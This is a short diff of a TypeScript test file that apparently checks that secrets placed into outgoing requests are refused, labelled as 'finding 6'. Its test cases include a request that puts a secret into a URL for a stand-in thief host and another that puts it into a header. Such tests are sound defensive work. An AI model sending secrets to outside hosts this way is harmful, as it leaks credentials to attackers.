@@ -43,7 +43,7 @@ async function refusal(request: Partial<HttpRequest>, held = [only('https://home
   );
 }
 
-describe('a secret that a node puts into a request', () => {
+describe('finding 6: a secret that a node puts into a request', () => {
   test.each<[string, Partial<HttpRequest>]>([
     ['the URL', { url: `https://thief.test/?k=${encodeURIComponent(secret)}` }],
     ['a header', { headers: { 'x-key': `Token ${secret}` } }],
